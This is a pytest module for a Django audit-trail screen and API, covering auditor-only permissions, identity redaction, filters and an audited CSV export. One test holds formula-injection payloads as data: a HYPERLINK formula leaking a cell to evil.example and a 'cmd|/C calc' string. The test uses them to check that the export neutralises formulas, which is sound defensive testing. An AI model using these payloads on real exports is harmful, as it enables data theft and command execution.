"""The auditor's screens and API: permissions for every view and endpoint, filters, and the audited CSV export."""

from __future__ import annotations

import csv
import datetime as dt
import io
from unittest import mock

import pytest
from django.urls import reverse

from ctip.accounts.enums import Role
from ctip.audit.models import AuditEvent
from ctip.audit.services import audit_record, chain_pending, verify_chain

pytestmark = pytest.mark.django_db

LIST = reverse("audit:list")
EXPORT = reverse("audit:export")
API = "/api/v1/audit/events/"
# Only auditors may read or export the trail (ctip/accounts/roles.py: AUDIT_VIEW / AUDIT_EXPORT).
DENIED_ROLES = [r for r in Role.values if r != Role.AUDITOR]
NAIROBI = dt.timezone(dt.timedelta(hours=3))


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _is_login_redirect(response) -> bool:
    return response.status_code == 302 and reverse("accounts:login") in response["Location"]


# --- permissions ---------------------------------------------------------------------------------------


def test_anonymous_is_refused_everywhere(client, api_for, users):
    before = AuditEvent.objects.count()
    assert _is_login_redirect(client.get(LIST))
    assert _is_login_redirect(client.get(EXPORT))
    response = api_for(None).get(API)
    assert response.status_code == 401
    assert "results" not in response.json()
    assert AuditEvent.objects.count() == before  # no export event either


@pytest.mark.parametrize("role", DENIED_ROLES)
def test_other_roles_are_forbidden(role, users, client_for, api_for):
    user = users[role]
    before = AuditEvent.objects.count()
    client = client_for(user)
    assert client.get(LIST).status_code == 403
    assert client.get(EXPORT).status_code == 403
    response = api_for(user).get(API)
    assert response.status_code == 403
    assert response.json()["code"] == "permission_denied"
    assert AuditEvent.objects.count() == before
    assert not AuditEvent.objects.filter(action="audit.export").exists()


@pytest.mark.parametrize("who", ["home", "other"])
def test_auditors_of_any_agency_see_the_whole_trail(who, users, other_users, client_for, api_for, make_person):
    # given events of both agencies
    person = make_person(users["case_worker"])
    other_person = make_person(other_users["case_worker"], first_name="Other")
    auditor = users["auditor"] if who == "home" else other_users["auditor"]
    # when
    response = client_for(auditor).get(LIST)
    # then (the audit scope is national)
    assert response.status_code == 200
    shown = {e.target_id for e in response.context["page"]}
    assert {str(person.public_id), str(other_person.public_id)} <= shown
    assert response.context["can_export"] is True
    api = api_for(auditor).get(API)
    assert api.status_code == 200
    assert {str(person.public_id), str(other_person.public_id)} <= {e["target_id"] for e in api.json()["results"]}


def test_auditor_without_second_factor_is_refused(users, client):
    client.force_login(users["auditor"])  # password only
    response = client.get(LIST)
    assert response.status_code == 302
    assert "/accounts/2fa/" in response["Location"]


def test_the_pages_show_no_identity(users, client_for, api_for, make_person):
    make_person(
        users["case_worker"], first_name="Mumbuavishe", last_name="Kaluvindani", identifiers=[("phone", "0712000111")]
    )
    auditor = users["auditor"]
    for response in (client_for(auditor).get(LIST), api_for(auditor).get(API)):
        body = response.content.decode()
        assert "person.create" in body
        assert "Mumbuavishe" not in body and "Kaluvindani" not in body and "712000111" not in body
    rows = _csv(client_for(auditor).get(EXPORT))
    assert "Kaluvindani" not in str(rows)


# --- filters -------------------------------------------------------------------------------------------


@pytest.fixture
def mixed_trail(users, other_users, make_person):
    """Events by different users, agencies, records and actions, one of them dated in the past."""
    home_person = make_person(users["case_worker"])
    other_person = make_person(other_users["investigator"])
    past = dt.datetime(2024, 1, 10, 9, 30, tzinfo=dt.UTC)
    with mock.patch("ctip.audit.services.timezone.now", return_value=past):
        old = audit_record(actor=users["investigator"], action="share.grant", target_type="x", target_id="old-1")
    return {"home_person": home_person, "other_person": other_person, "old": old}


def _shown(client, **params) -> list[AuditEvent]:
    response = client.get(LIST, params)
    assert response.status_code == 200
    return list(response.context["page"])


def test_filter_by_user(users, client_for, mixed_trail):
    events = _shown(client_for(users["auditor"]), user="home-case_worker")
    assert events
    assert {e.actor_id for e in events} == {users["case_worker"].pk}
    assert _shown(client_for(users["auditor"]), user="nobody-by-that-name") == []


def test_filter_by_agency(users, other_agency, client_for, mixed_trail):
    events = _shown(client_for(users["auditor"]), agency=other_agency.pk)
    assert events
    assert {e.agency_id for e in events} == {other_agency.pk}
    assert str(mixed_trail["other_person"].public_id) in {e.target_id for e in events}
    assert str(mixed_trail["home_person"].public_id) not in {e.target_id for e in events}


def test_filter_by_record(users, client_for, mixed_trail):
    pid = str(mixed_trail["home_person"].public_id)
    events = _shown(client_for(users["auditor"]), record=f"  {pid} ")
    assert [(e.action, e.target_id) for e in events] == [("person.create", pid)]


def test_filter_by_action_prefix(users, client_for, mixed_trail):
    events = _shown(client_for(users["auditor"]), action="person.")
    assert len(events) == 2
    assert {e.action for e in events} == {"person.create"}
    assert {e.action for e in _shown(client_for(users["auditor"]), action="user.")} == {"user.create"}


def test_filter_by_time(users, client_for, mixed_trail):
    client = client_for(users["auditor"])
    assert [e.pk for e in _shown(client, date_from="2024-01-10", date_to="2024-01-10")] == [mixed_trail["old"].pk]
    assert [e.pk for e in _shown(client, date_to="2024-01-31")] == [mixed_trail["old"].pk]
    recent = _shown(client, date_from="2024-01-11")
    assert recent and mixed_trail["old"].pk not in {e.pk for e in recent}
    assert _shown(client, date_from="2024-01-11", date_to="2024-12-31") == []


def test_time_filter_uses_the_local_day(users, client_for, db):
    # 22:30 UTC on 9 January is 01:30 on 10 January in Nairobi
    with mock.patch("ctip.audit.services.timezone.now", return_value=dt.datetime(2024, 1, 9, 22, 30, tzinfo=dt.UTC)):
        late = audit_record(actor=users["investigator"], action="case.update")
    client = client_for(users["auditor"])
    assert [e.pk for e in _shown(client, date_from="2024-01-10", date_to="2024-01-10")] == [late.pk]
    assert _shown(client, date_from="2024-01-09", date_to="2024-01-09") == []


def test_filters_combine(users, client_for, mixed_trail):
    events = _shown(client_for(users["auditor"]), user="home-investigator", action="share.")
    assert [e.pk for e in events] == [mixed_trail["old"].pk]


def test_invalid_filter_shows_nothing_and_the_error(users, client_for, mixed_trail):
    response = client_for(users["auditor"]).get(LIST, {"date_from": "2024-02-01", "date_to": "2024-01-01"})
    assert response.status_code == 200
    assert response.context["form"].errors["date_to"]
    assert list(response.context["page"]) == []


def test_list_is_newest_first_and_paged(users, client_for, db):
    for n in range(60):
        audit_record(actor=users["investigator"], action="reference.indicator_update", target_id=f"b{n}")
    client = client_for(users["auditor"])
    first = client.get(LIST, {"action": "reference.indicator_update"}).context["page"]
    assert len(first) == 50 and first.has_next()
    assert [e.pk for e in first] == sorted((e.pk for e in first), reverse=True)
    second = client.get(LIST, {"action": "reference.indicator_update", "page": 2}).context["page"]
    assert len(second) == 10 and not second.has_next()


def test_api_filters_by_record_and_action(users, api_for, mixed_trail):
    client = api_for(users["auditor"])
    pid = str(mixed_trail["other_person"].public_id)
    data = client.get(API, {"record": pid}).json()
    assert [(e["action"], e["target_id"]) for e in data["results"]] == [("person.create", pid)]
    data = client.get(API, {"action": "share."}).json()
    assert [e["seq"] for e in data["results"]] == [mixed_trail["old"].seq]
    assert data["results"][0]["actor"] == "home-investigator"
    assert set(data["results"][0]) == {
        "seq",
        "occurred_at",
        "actor",
        "agency_id",
        "action",
        "target_type",
        "target_id",
        "ip",
        "channel",
        "changes",
        "reason",
        "hash",
    }


# --- CSV export -----------------------------------------------------------------------------------------


def test_export_returns_the_filtered_trail_as_csv_and_is_itself_audited(users, client_for, mixed_trail):
    auditor = users["auditor"]
    pid = str(mixed_trail["home_person"].public_id)
    # when
    response = client_for(auditor).get(EXPORT, {"record": pid})
    # then a CSV attachment with the matching rows
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv(response)
    assert rows[0][:5] == ["seq", "time", "user", "agency", "action"]
    assert [(r[4], r[6]) for r in rows[1:]] == [("person.create", pid)]
    # and the export is in the trail: who exported, with which filters
    export = AuditEvent.objects.filter(action="audit.export").get()
    assert export.actor_id == auditor.pk
    assert export.changes == {"filters": {"record": pid}}
    assert export.channel == "web"
    assert verify_chain()[0]


def test_unfiltered_export_has_every_event_in_order(users, client_for, mixed_trail):
    response = client_for(users["auditor"]).get(EXPORT)
    chain_pending()  # what the commits do (a test's transaction never commits); the rows stream after it
    rows = _csv(response)[1:]
    seqs = [int(r[0]) for r in rows]
    assert seqs == sorted(seqs)
    # the export event itself is written before the rows are streamed, so it is included
    assert seqs == list(AuditEvent.objects.order_by("seq").values_list("seq", flat=True))
    assert rows[-1][4] == "audit.export"
    assert {r[-1] for r in rows} == set(AuditEvent.objects.values_list("hash", flat=True))


def test_export_with_invalid_filters_is_refused_and_not_logged(users, client_for, mixed_trail):
    response = client_for(users["auditor"]).get(EXPORT, {"date_from": "2024-02-01", "date_to": "2024-01-01"})
    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_export_neutralises_formulas_in_reasons_and_changes(users, client_for):
    # given a break-the-glass reason (free text typed by any officer) that is a spreadsheet formula
    attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Open the case")'
    audit_record(
        actor=users["investigator"],
        action="breakglass.open",
        target_type="cases.case",
        target_id="c-1",
        reason=attack,
        changes={"note": "x"},
    )
    audit_record(actor=users["investigator"], action="breakglass.open", reason="-2+3+cmd|' /C calc'!A0")
    chain_pending()
    # when the auditor exports
    rows = _csv(client_for(users["auditor"]).get(EXPORT, {"action": "breakglass."}))
    # then each reason is text, prefixed with a quote, and no cell starts a formula
    reasons = [r[9] for r in rows[1:]]
    assert reasons == ["'" + attack, "'-2+3+cmd|' /C calc'!A0"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # numbers stay numbers
    assert rows[1][0].isdigit()


# --- what an auditor types: numbers, prefixes, agency names; readable details; CSV offsets -------------------


def test_a_case_number_finds_the_case_and_its_persons_identity_reads(users, client_for, make_person):
    from ctip.cases.tests.factories import open_case

    case = open_case(users["case_worker"], make_person)
    other = open_case(users["case_worker"], make_person, first_name="Wanjiru")
    audit_record(
        actor=users["investigator"],
        action="identity.read",
        target_type="people.person",
        target_id=str(case.person.public_id),
    )
    events = _shown(client_for(users["auditor"]), record=case.reference.lower())
    targets = {e.target_id for e in events}
    assert targets == {str(case.public_id), str(case.person.public_id)}
    assert "identity.read" in {e.action for e in events}
    assert str(other.public_id) not in targets
    assert _shown(client_for(users["auditor"]), record="CT-1999-999999") == []


def test_the_short_id_shown_in_the_list_finds_the_record(users, client_for, mixed_trail):
    pid = str(mixed_trail["home_person"].public_id)
    events = _shown(client_for(users["auditor"]), record=pid[:8].upper())
    assert pid in {e.target_id for e in events}
    assert all(e.target_id.startswith(pid[:8]) for e in events)
    assert _shown(client_for(users["auditor"]), record="zz") == []  # neither an id nor a number: nothing


def test_agencies_are_chosen_by_name(users, other_agency, client_for, mixed_trail):
    response = client_for(users["auditor"]).get(LIST)
    html = response.content.decode()
    from django.utils.html import escape

    assert f'<option value="{other_agency.pk}">{escape(other_agency.name)}</option>' in html
    assert "Agency number" not in html


def test_changes_are_shown_readably(users, client_for, db):
    audit_record(
        actor=users["investigator"],
        action="investigation.submit",
        target_type="justice.investigation",
        target_id="f-1",
        changes={"status": ["open", "with_odpp"], "sections": ["victims", "suspects"], "phone": "***", "gaps": []},
    )
    html = client_for(users["auditor"]).get(LIST, {"record": "f-1"}).content.decode()
    assert "<dt>Status</dt><dd>open → with_odpp</dd>" in html
    assert "<dt>Sections</dt><dd>victims, suspects</dd>" in html
    assert "<dt>Phone</dt><dd>(hidden)</dd>" in html
    assert "{&#x27;status&#x27;" not in html and "{'status'" not in html


def test_csv_times_carry_their_offset_and_changes_are_json(users, client_for, mixed_trail):
    rows = _csv(client_for(users["auditor"]).get(EXPORT, {"record": "old-1"}))
    assert rows[1][1] == "2024-01-10T12:30:00+03:00"  # 09:30 UTC, in Nairobi's time with its offset
    audit_record(actor=users["investigator"], action="share.grant", target_id="j-1", changes={"agency": 5})
    chain_pending()
    rows = _csv(client_for(users["auditor"]).get(EXPORT, {"record": "j-1"}))
    assert rows[1][10] == '{"agency": 5}'
